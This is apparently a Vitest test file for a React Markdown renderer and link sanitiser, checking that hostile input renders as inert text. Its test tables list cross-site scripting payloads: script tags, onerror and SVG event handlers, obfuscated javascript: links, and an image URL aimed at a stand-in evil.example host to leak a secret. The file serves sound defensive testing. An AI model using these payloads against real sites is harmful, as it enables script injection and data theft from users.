// @vitest-environment jsdom
import { cleanup, render } from "@testing-library/react";
import fc from "fast-check";
import { afterEach, describe, expect, test } from "vitest";
import { Markdown } from "../../../src/features/shell/log/Markdown.tsx";
import { safeLink } from "../../../src/features/shell/log/safe-link.ts";

afterEach(cleanup);

const ALLOWED = new Set(
  "DIV P H2 UL OL LI STRONG EM DEL CODE PRE FIGURE FIGCAPTION SPAN BUTTON A BR HR BLOCKQUOTE TABLE THEAD TBODY TR TH TD".split(
    " ",
  ),
);
const ATTRIBUTES = new Set(
  "class dir href target rel title tabindex type scope start data-depth data-task data-align role aria-label aria-busy aria-disabled".split(
    " ",
  ),
);

const MATHML = "http://www.w3.org/1998/Math/MathML";

/** Nothing in the page but these elements and attributes, and no link that leaves the allowed schemes. */
function expectInert(root: Element): void {
  for (const element of root.querySelectorAll("*")) {
    // What random text makes a formula of is drawn once an earlier test has loaded the drawing; formulas.test.tsx has its attacks.
    if (element.closest("math") !== null) {
      expect(element.namespaceURI).toBe(MATHML);
      expect(element.getAttributeNames().filter((name) => /^on|href|style|class/.test(name))).toEqual([]);
      continue;
    }
    expect(ALLOWED).toContain(element.tagName);
    for (const { name } of element.attributes) expect(ATTRIBUTES).toContain(name);
    const href = element.getAttribute("href");
    if (href !== null) expect(href).toMatch(/^(https?|mailto):/);
  }
}

describe("hostile text", () => {
  test.each([
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\nscript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:x)",
    "[click](//evil.example/x)",
    "[click](/logout)",
    "[click](&#106;avascript:alert(1))",
    "![x](https://evil.example/steal?secret=1)",
    "![x](javascript:alert(1))",
    '<a href="javascript:alert(1)">x</a>',
    '<svg><animate onbegin="alert(1)"></svg>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>*{display:none}</style>",
    '[x](https://a.example "onmouseover=alert(1)")',
    "<https://a.example/<script>>",
    "```html\n<script>alert(1)</script>\n```",
    "| <b>a</b> | [x](javascript:1) |\n|-|-|\n| <img src=x> | y |",
    "[r]: javascript:alert(1)\n\n[r]",
  ])("becomes nothing but text: %s", (text) => {
    const { container } = render(<Markdown text={text} />);
    expectInert(container);
  });

  test("never fetches an image", () => {
    const { container } = render(<Markdown text="![secret](https://evil.example/?q=1)" />);
    expect(container.querySelector("img")).toBeNull();
    expect(container.textContent).toContain("[image: secret]");
  });

  test("thousands of nested quotes are shown, not an overflow", () => {
    const { container } = render(<Markdown text={`${"> ".repeat(4_000)}deep`} />);
    expect(container.textContent).toContain("deep");
  });

  test("any text renders inertly", () => {
    const pieces = fc.constantFrom(
      "<",
      ">",
      "[a](",
      ")",
      "javascript:",
      "![",
      "](http://x)",
      "`",
      "```",
      "\n",
      "- ",
      "> ",
      "|",
      "-",
      "#",
      " ",
      "<script>",
      "a",
      "&",
      "*",
      "_",
      "\\",
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 40 }), (parts) => {
        const { container, unmount } = render(<Markdown text={parts.join("")} />);
        expectInert(container);
        unmount();
      }),
      { numRuns: 150 },
    );
  });
});

describe("ordinary text", () => {
  test("shows its structure", () => {
    const text =
      "# Title\n\nSome *words* with `code` & <signs>.\n\n1. one\n2. two\n\n- [x] done\n\n| a | b |\n|-|-|\n| 1 | 2 |\n\n[there](https://example.org/)";
    const { container, getByRole } = render(<Markdown text={text} />);
    expect(getByRole("heading", { level: 2 }).textContent).toBe("Title");
    expect(container.querySelector("ol")?.children).toHaveLength(2);
    expect(container.textContent).toContain("Some words with code & <signs>.");
    expect(container.textContent).toContain("☑ done");
    expect(getByRole("table")).toBeTruthy();
    expect(getByRole("link")).toMatchObject({ href: "https://example.org/", rel: "noopener noreferrer nofollow" });
  });

  test("code is shown as it is", () => {
    const { container } = render(<Markdown text={"```js\nif (a < b) {}\n```"} />);
    expect(container.querySelector("pre")?.textContent).toBe("if (a < b) {}");
  });
});

test.each([
  ["https://example.org/a?b=c", "https://example.org/a?b=c"],
  ["mailto:ana@example.org", "mailto:ana@example.org"],
  [" javascript:alert(1)", null],
  ["ftp://example.org", null],
  ["#top", null],
  ["", null],
])("a link to %s", (href, safe) => {
  expect(safeLink(href)).toBe(safe);
});

test("each block runs in the direction of its own text, and code in that of code", () => {
  const { container } = render(
    <Markdown text={"مرحبا\n\n- واحد\n\nThen in English.\n\n```sh\nls\n```\n\n| a |\n|---|\n| ب |"} />,
  );
  for (const element of container.querySelectorAll("p, ul, table")) expect(element.getAttribute("dir")).toBe("auto");
  expect(container.querySelector("pre")?.closest("[dir]")).toBeNull();
});
